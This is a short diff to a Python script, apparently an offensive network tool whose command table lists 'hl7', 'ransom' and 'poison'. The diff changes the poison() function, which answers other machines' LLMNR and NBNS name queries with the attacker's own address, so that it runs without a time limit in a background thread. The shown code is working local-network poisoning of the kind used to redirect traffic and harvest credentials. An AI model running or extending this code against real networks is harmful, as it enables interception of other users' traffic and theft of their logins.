@@ -9,6 +9,7 @@ live.py poison                               answers NBNS and LLMNR queries of o
 import http.server
 import random
 import sys
+import threading
 
 
 def hl7(host, kind, count, sender, first="0"):
@@ -67,8 +68,9 @@ def poison():
     address = conf.iface.ip
     answer = LLMNR_am(joker=address)
     names = NBNS_am(server_name="", ip=address)
-    answer(bg=True, iface="eth0", timeout=20)
-    names(iface="eth0", timeout=20)
+    # Both run until the program is ended.
+    threading.Thread(target=answer, kwargs={"iface": "eth0"}).start()
+    names(iface="eth0")
 
 
 COMMANDS = {"hl7": hl7, "ransom": ransom, "poison": poison}
